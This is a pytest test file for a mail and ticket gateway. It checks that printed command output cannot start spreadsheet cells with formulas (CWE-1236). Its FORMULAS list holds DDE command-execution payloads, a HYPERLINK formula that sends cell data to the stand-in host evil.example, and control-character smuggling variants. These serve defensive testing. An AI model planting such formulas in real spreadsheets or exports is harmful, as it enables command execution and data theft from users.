"""Formulas in mail (CWE-1236): what commands print may be pasted into a spreadsheet and must begin no cell."""

import base64
import json

import pytest

from gateway.cli.output import emit
from gateway.desk.desk import Desk
from gateway.desk.documents.cases import mail_document, quarantine_row, ticket_row
from gateway.desk.documents.outgoing import queue_row
from tests.support.desk import case, deliver, letter, open_case, queue, waiting, write
from tests.support.people import INES

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example/?"&A1,"Totals")',
    "x\t=1+1",
    "x\r\n=1+1",
    "x\x0b=1+1\x0c+1",
    "x\u2028=1+1",
    '","=1+1","',
]
STARTS = tuple("=+@\t\r")


def cells(text: str) -> list[str]:
    """What a spreadsheet would take for the beginnings of cells: of lines, and behind tabs."""
    return [cell for line in text.splitlines() for cell in line.split("\t")]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_line_that_a_command_prints_begins_with_a_formula(
    desk: Desk, capsys: pytest.CaptureFixture[str], formula: str
) -> None:
    encoded = f"Subject: =?utf-8?b?{base64.b64encode(formula.encode()).decode()}?="
    content = letter(INES, f"{formula}\n{formula}", subject="to be encoded").as_bytes()
    number = deliver(desk, content.replace(b"Subject: to be encoded", encoded.encode()))["ticket"]
    document = write(desk, INES, "x", subject="x", proof="fail")
    with desk.store.read() as work:
        tickets = [ticket_row(one) for one in work.tickets.listing(None, None)]
        mail = mail_document(work.mails.show(document["mail"]))
    quarantine = [quarantine_row(one) for one in waiting(desk)]
    outgoing = [queue_row(one) for one in queue(desk)]
    for shown in (tickets, quarantine, outgoing, mail, case(desk, number)):
        emit(shown, as_json=False)
    printed = capsys.readouterr().out
    assert printed
    assert [cell for cell in cells(printed) if cell.startswith(STARTS)] == []


@pytest.mark.parametrize("formula", FORMULAS)
def test_programs_get_the_text_as_it_is(desk: Desk, capsys: pytest.CaptureFixture[str], formula: str) -> None:
    number = open_case(desk, INES, "x", text=f"Look: {formula}")
    emit(case(desk, number), as_json=True)
    printed = capsys.readouterr().out
    assert "\t" not in printed
    assert json.loads(printed)["notes"][0]["text"].startswith("Look: ")
